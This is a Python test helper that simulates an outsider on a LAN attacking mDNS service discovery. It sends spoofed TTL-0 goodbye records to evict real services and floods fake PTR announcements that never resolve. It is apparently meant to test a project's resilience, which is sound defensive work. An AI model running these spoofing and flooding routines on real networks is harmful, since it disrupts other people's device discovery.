"""An outsider on the LAN, with no fleet secret, abusing mDNS.

``python tests/_outsider.py goodbyes INTERFACE SERVICE_TYPE SECONDS`` browses
``SERVICE_TYPE`` on ``INTERFACE`` and, every 0.2 s for ``SECONDS``, multicasts
for each service name it saw the PTR record with TTL 0 that a departing
service sends (RFC 6762 §10.1).  Prints how many goodbyes it sent.

``python tests/_outsider.py flood INTERFACE SERVICE_TYPE SECONDS [COUNT]``
announces ``COUNT`` (default 30) services of ``SERVICE_TYPE`` that never
resolve (PTR records only: no SRV, TXT or address ever answers), every 0.5 s
for ``SECONDS``, as an attacker or the stale cache entries of powered-off
devices would.  Prints ``flooding`` once its first announcement is out.
"""

from __future__ import annotations

import sys
import time
from typing import Any

from zeroconf import IPVersion, ServiceBrowser, ServiceStateChange, Zeroconf, const
from zeroconf._dns import DNSPointer
from zeroconf._protocol.outgoing import DNSOutgoing


def flood(interface: str, service_type: str, seconds: float, count: int) -> int:
    zc = Zeroconf(interfaces=[interface], ip_version=IPVersion.V4Only)
    names = [f"junk{i:03d}.{service_type}" for i in range(count)]
    deadline = time.monotonic() + seconds
    first = True
    try:
        while time.monotonic() < deadline:
            out = DNSOutgoing(const._FLAGS_QR_RESPONSE | const._FLAGS_AA)
            for name in names:
                ptr = DNSPointer(service_type, const._TYPE_PTR, const._CLASS_IN, 4500, name)
                out.add_answer_at_time(ptr, 0)
            zc.send(out)
            if first:
                print("flooding", flush=True)
                first = False
            time.sleep(0.5)
    finally:
        zc.close()
    return 0


def goodbyes(interface: str, service_type: str, seconds: float) -> int:
    zc = Zeroconf(interfaces=[interface], ip_version=IPVersion.V4Only)
    names: set[str] = set()

    def seen(zeroconf: Any, service_type: str, name: str, state_change: Any) -> None:
        if state_change is ServiceStateChange.Added:
            names.add(name)

    browser = ServiceBrowser(zc, service_type, handlers=[seen])
    sent = 0
    deadline = time.monotonic() + seconds
    try:
        while time.monotonic() < deadline:
            for name in sorted(names):
                out = DNSOutgoing(const._FLAGS_QR_RESPONSE | const._FLAGS_AA)
                ptr = DNSPointer(service_type, const._TYPE_PTR, const._CLASS_IN, 0, name)
                out.add_answer_at_time(ptr, 0)
                zc.send(out)
                sent += 1
            time.sleep(0.2)
    finally:
        browser.cancel()
        zc.close()
    print(f"goodbyes sent: {sent} for {len(names)} services", flush=True)
    return 0


if __name__ == "__main__":
    mode, interface, stype, seconds = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
    if mode == "goodbyes":
        sys.exit(goodbyes(interface, stype, seconds))
    sys.exit(flood(interface, stype, seconds, int(sys.argv[5]) if len(sys.argv) > 5 else 30))
